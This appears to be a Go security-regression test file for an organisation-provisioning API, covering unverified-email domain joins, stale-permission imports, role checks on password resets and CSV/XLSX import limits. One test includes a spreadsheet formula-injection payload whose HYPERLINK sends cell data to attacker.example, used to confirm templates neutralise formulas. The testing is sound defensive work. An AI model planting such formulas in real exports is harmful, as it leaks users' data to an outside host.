package httpapi

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/aws/aws-lambda-go/events"
	"github.com/xuri/excelize/v2"

	"github.com/vendorportal/orgs/internal/domains"
	"github.com/vendorportal/orgs/internal/orgs"
	"github.com/vendorportal/orgs/internal/provisioning"
	"github.com/vendorportal/orgs/internal/roles"
)

// The attacks of the provisioning review: each test is one way in that must stay shut.

// asUnverified makes the request's token say that the identity provider has not verified
// its address (an ID token with email_verified false), or, with noEmail, carry no address at
// all (an access token).
func asUnverified(ev events.APIGatewayV2HTTPRequest, noEmail bool) events.APIGatewayV2HTTPRequest {
	claims := ev.RequestContext.Authorizer.JWT.Claims
	claims["email_verified"] = "false"
	if noEmail {
		delete(claims, "email")
		delete(claims, "email_verified")
	}
	return ev
}

func TestAnAddressCreatedWithItsPasswordMailedElsewhereCannotAutoJoinItsDomainsOrg(t *testing.T) {
	a, dir := provisioningAPI(t)
	// Bigcorp verified its domain and lets its people join.
	ada := person("ada")
	bigcorp := a.org(ada, "Bigcorp")
	a.verifiedDomain(ada, bigcorp, "bigcorp.com")
	if r := a.do(UpdateOrg, &ada, map[string]string{"orgId": bigcorp}, nil, `{"autoJoin":"join"}`); r.status != 200 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	// Mallory's org creates an account for Bigcorp's CEO, whose password goes to Mallory.
	mal := person("mallory")
	evil := a.org(mal, "Evil")
	r := a.do(CreateMember, &mal, map[string]string{"orgId": evil}, nil, `{"email":"ceo@bigcorp.com","notifyEmail":"mallory@example.com"}`)
	if r.status != 201 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	u := dir.user("ceo@bigcorp.com")
	if u.verified {
		t.Fatal("the address was marked verified")
	}
	// Mallory signs in as ceo@bigcorp.com: the identity provider vouches for no address.
	ceo := person("ceo")
	ceo.ID, ceo.Email = u.id, "ceo@bigcorp.com"
	for name, noEmail := range map[string]bool{"an ID token with email_verified false": false, "an access token": true} {
		t.Run(name, func(t *testing.T) {
			join := a.call(JoinOrg, asUnverified(a.request(JoinOrg, &ceo, map[string]string{"orgId": bigcorp}, nil, ""), noEmail))
			if join.StatusCode == 200 {
				t.Fatalf("joined Bigcorp by an address nobody proved: %s", join.Body)
			}
			sugg := a.call(SuggestedOrgs, asUnverified(a.request(SuggestedOrgs, &ceo, nil, nil, ""), noEmail))
			if strings.Contains(sugg.Body, bigcorp) {
				t.Errorf("Bigcorp suggested to an address nobody proved: %d %s", sugg.StatusCode, sugg.Body)
			}
		})
	}
	if r := a.do(ListMembers, &ada, map[string]string{"orgId": bigcorp}, nil, ""); strings.Contains(r.body, "ceo@bigcorp.com") {
		t.Fatalf("Bigcorp's members: %s", r.body)
	}
	// Once the identity provider vouches for the address (the CEO verified it), it counts.
	if r := a.do(JoinOrg, &ceo, map[string]string{"orgId": bigcorp}, nil, ""); r.status != 200 {
		t.Fatalf("a verified claim: %d %s", r.status, r.body)
	}
}

func TestAnImportAddsNobodyOnceItsCommitterMayNoLongerAddMembers(t *testing.T) {
	a, dir := importAPI(t)
	ada, vic := person("ada"), person("vic")
	orgID := a.org(ada, "Acme")
	a.member(orgID, vic, roles.Admin)
	a.writes.reset()
	r := a.upload(&vic, orgID, "text/csv", []byte("email,role\nnew-admin@example.com,admin\nnew-user@example.com,user\n"), false)
	if r.status != 202 {
		t.Fatalf("commit: %d %s", r.status, r.body)
	}
	var job struct{ ID string }
	_ = json.Unmarshal([]byte(r.body), &job)
	chunks := a.outboxChunks()
	// Vic is demoted before the stream processor gets to the rows.
	if r := a.do(UpdateMember, &ada, map[string]string{"orgId": orgID, "userId": vic.ID}, nil, `{"role":"user"}`); r.status != 200 {
		t.Fatalf("demote: %d %s", r.status, r.body)
	}
	handle := a.env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range chunks {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.user("new-admin@example.com") != nil || dir.user("new-user@example.com") != nil {
		t.Error("the identity provider got users on the strength of a committer who lost the right")
	}
	list := a.do(ListMembers, &ada, map[string]string{"orgId": orgID}, nil, "")
	if strings.Contains(list.body, "new-admin@example.com") || strings.Contains(list.body, "new-user@example.com") {
		t.Fatalf("members added by a demoted committer's import: %s", list.body)
	}
	got := a.do(GetImport, &ada, map[string]string{"orgId": orgID, "importId": job.ID}, nil, "")
	if !strings.Contains(got.body, `"status":"done"`) || !strings.Contains(got.body, `"failed":2`) || !strings.Contains(got.body, `"forbidden"`) {
		t.Fatalf("job: %s; want done with both rows forbidden", got.body)
	}
}

func TestAnImportRowIsCheckedAgainstItsCommittersRoleAsItIsWhenItRuns(t *testing.T) {
	a, dir := importAPI(t)
	ada, cat := person("ada"), person("cat")
	orgID := a.org(ada, "Acme")
	// A custom role that manages members but holds nothing beyond the role user's.
	r := a.do(CreateRole, &ada, map[string]string{"orgId": orgID}, nil,
		`{"name":"Helpdesk","description":"","permissions":["org.read","products.access","token.view","support.access","members.read","members.manage"]}`)
	if r.status != 201 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	var role struct{ ID string }
	_ = json.Unmarshal([]byte(r.body), &role)
	a.member(orgID, cat, roles.Role(role.ID))
	// Cat may import users, not admins.
	if r := a.upload(&cat, orgID, "text/csv", []byte("email,role\nboss@example.com,admin\n"), true); !strings.Contains(r.body, `"forbidden"`) {
		t.Fatalf("dry run of an admin row by a helpdesk member: %d %s", r.status, r.body)
	}
	a.writes.reset()
	if r := a.upload(&cat, orgID, "text/csv", []byte("email,role\nok@example.com,user\n"), false); r.status != 202 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	handle := a.env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range a.outboxChunks() {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.user("ok@example.com") == nil {
		t.Error("a row the committer may add was not created")
	}
}

func TestAMemberManagerBelowAnAdminCannotResetTheAdminsPasswordNorRenameThem(t *testing.T) {
	a, dir := provisioningAPI(t)
	ada, cat := person("ada"), person("cat")
	orgID := a.org(ada, "Acme")
	r := a.do(CreateRole, &ada, map[string]string{"orgId": orgID}, nil,
		`{"name":"Helpdesk","description":"","permissions":["org.read","support.access","members.read","members.manage"]}`)
	if r.status != 201 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	var role struct{ ID string }
	_ = json.Unmarshal([]byte(r.body), &role)
	a.member(orgID, cat, roles.Role(role.ID))
	// An admin the org created (provisioned), and a user it created.
	for _, body := range []string{`{"email":"boss@example.com","role":"admin"}`, `{"email":"temp@example.com","role":"support_only"}`} {
		if r := a.do(CreateMember, &ada, map[string]string{"orgId": orgID}, nil, body); r.status != 201 {
			t.Fatalf("%d %s", r.status, r.body)
		}
	}
	boss := dir.user("boss@example.com")
	first := boss.password
	p := map[string]string{"orgId": orgID, "userId": boss.id}
	if r := a.do(ResetMemberPassword, &cat, p, nil, ""); r.status != 403 {
		t.Errorf("a helpdesk member reset an admin's password: %d %s", r.status, r.body)
	}
	if boss.password != first {
		t.Error("the admin's password changed")
	}
	if r := a.do(UpdateMember, &cat, p, nil, `{"name":"Locked Out"}`); r.status != 403 {
		t.Errorf("a helpdesk member renamed an admin: %d %s", r.status, r.body)
	}
	// A member the helpdesk role covers is theirs to help.
	temp := dir.user("temp@example.com")
	if r := a.do(ResetMemberPassword, &cat, map[string]string{"orgId": orgID, "userId": temp.id}, nil, ""); r.status != 204 {
		t.Errorf("a helpdesk member resetting a support-only member's password: %d %s", r.status, r.body)
	}
}

// sparseXLSX is a workbook with the header in row 1 and rows data rows from row first on.
func sparseXLSX(t *testing.T, first, rows int, extra func(f *excelize.File)) []byte {
	t.Helper()
	f := excelize.NewFile()
	_ = f.SetSheetRow("Sheet1", "A1", &[]any{"email", "name"})
	for i := 0; i < rows; i++ {
		cell, _ := excelize.CoordinatesToCellName(1, first+i)
		_ = f.SetSheetRow("Sheet1", cell, &[]any{fmt.Sprintf("u%d@example.com", i), "U"})
	}
	if extra != nil {
		extra(f)
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestAnXLSXImportOfMoreThanAThousandRowsIsRefusedNotCutShort(t *testing.T) {
	a, _ := importAPI(t)
	ada := person("ada")
	orgID := a.org(ada, "Acme")
	// 1,001 rows after a gap of blank rows: the rows past the 1,002nd of the sheet must not
	// vanish unseen.
	r := a.upload(&ada, orgID, provisioning.ContentTypeXLSX, sparseXLSX(t, 20, 1001, nil), true)
	if r.status != 413 {
		t.Fatalf("%d %.300s; want 413", r.status, r.body)
	}
	// 1,000 rows after the gap are fine, and blank rows below them (a formatted sheet) too.
	ok := sparseXLSX(t, 20, 1000, func(f *excelize.File) { _ = f.SetRowHeight("Sheet1", 5000, 30) })
	if r := a.upload(&ada, orgID, provisioning.ContentTypeXLSX, ok, true); r.status != 200 {
		t.Fatalf("%d %.300s; want 200", r.status, r.body)
	}
}

func TestTheImportTemplateCarriesNoFormulaFromAPropertyLabel(t *testing.T) {
	a, _ := importAPI(t)
	ada := person("ada")
	orgID := a.org(ada, "Acme")
	evil := `=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")`
	if r := a.do(PutUserProperties, &ada, map[string]string{"orgId": orgID}, nil,
		`{"items":[{"key":"team","label":"`+evil+`","type":"string","required":false},{"key":"site","label":"@SUM(1+1)","type":"string","required":false}]}`); r.status != 200 {
		t.Fatalf("%d %s", r.status, r.body)
	}
	resp := a.call(ImportTemplate, a.request(ImportTemplate, &ada, map[string]string{"orgId": orgID}, map[string][]string{"format": {"csv"}}, ""))
	if resp.StatusCode != 200 {
		t.Fatalf("%d %s", resp.StatusCode, resp.Body)
	}
	recs, err := csv.NewReader(strings.NewReader(resp.Body)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%v %q", err, resp.Body)
	}
	for _, rec := range recs {
		for _, c := range rec {
			if c != "" && strings.ContainsRune("=@", rune(c[0])) {
				t.Errorf("the template has a cell a spreadsheet runs as a formula: %q", c)
			}
		}
	}
}

func TestADeletedOrgLetsGoOfItsVerifiedDomains(t *testing.T) {
	a, _ := provisioningAPI(t)
	ada, bob := person("ada"), person("bob")
	old := a.org(ada, "Old Acme")
	a.verifiedDomain(ada, old, "acme-corp.com")
	access, _ := a.env.Orgs().Authorize(context.Background(), ada, old)
	if r := a.do(DeleteOrg, &ada, map[string]string{"orgId": old}, map[string]string{"confirm": access.Org.Handle}, ""); r.status != 204 {
		t.Fatalf("delete: %d %s", r.status, r.body)
	}
	if _, err := a.store.DomainOwner(context.Background(), "acme-corp.com"); err == nil {
		t.Error("the deleted org still holds the domain's guard")
	}
	// The company's new org verifies the domain.
	fresh := a.org(bob, "New Acme")
	a.do(AddDomain, &bob, map[string]string{"orgId": fresh}, nil, `{"domain":"acme-corp.com"}`)
	access, _ = a.env.Orgs().Authorize(context.Background(), bob, fresh)
	s := *a.env.DomainVerification()
	s.Resolver = zone{domains.TXTLabel + ".acme-corp.com": {access.Org.Domains[0].TXTValue}}
	if _, err := s.Verify(context.Background(), access, "acme-corp.com", domains.VerifyInput{}); err != nil {
		t.Fatalf("verifying a domain whose org was deleted: %v", err)
	}
}

// wideCSV is an import of rows rows (addresses prefix0@example.com, ...), each with 50 string
// properties of 990 characters.
func (a *api) wideCSV(ada orgs.Caller, orgID, prefix string, rows int) []byte {
	a.t.Helper()
	var defs, cols []string
	for i := 0; i < 50; i++ {
		defs = append(defs, fmt.Sprintf(`{"key":"p%d","label":"P%d","type":"string","required":false}`, i, i))
		cols = append(cols, fmt.Sprintf("p%d", i))
	}
	if r := a.do(PutUserProperties, &ada, map[string]string{"orgId": orgID}, nil, `{"items":[`+strings.Join(defs, ",")+`]}`); r.status != 200 {
		a.t.Fatalf("%d %s", r.status, r.body)
	}
	var b strings.Builder
	b.WriteString("email," + strings.Join(cols, ",") + "\n")
	v := strings.Repeat("x", 990)
	for i := 0; i < rows; i++ {
		fmt.Fprintf(&b, "%s%d@example.com", prefix, i)
		for range cols {
			b.WriteString("," + v)
		}
		b.WriteString("\n")
	}
	return []byte(b.String())
}

func TestALargeImportWithinTheLimitsIsChunkedToFitItsItemsAndNeverA5xx(t *testing.T) {
	a, dir := importAPI(t)
	ada := person("ada")
	orgID := a.org(ada, "Acme")
	// 500 KB in 10 rows: one chunk of them (a chunk counts up to 50) would be an item over
	// DynamoDB's 400 KB.
	body := a.wideCSV(ada, orgID, "u", 10)
	a.writes.reset()
	r := a.upload(&ada, orgID, "text/csv", body, false)
	if r.status != 202 {
		t.Fatalf("%d bytes: %d %.300s", len(body), r.status, r.body)
	}
	handle := a.env.ProvisioningHandlers()[provisioning.KindImportChunk]
	for _, c := range a.outboxChunks() {
		if err := handle(context.Background(), c); err != nil {
			t.Fatal(err)
		}
	}
	if dir.user("u9@example.com") == nil {
		t.Error("the last row was not created")
	}
	// Rows holding more than one transaction can carry are refused as too large, whole.
	more := a.wideCSV(ada, orgID, "v", 70)
	if r := a.upload(&ada, orgID, "text/csv", more, false); r.status != 413 {
		t.Fatalf("%d bytes: %d %.300s; want 413", len(more), r.status, r.body)
	}
}
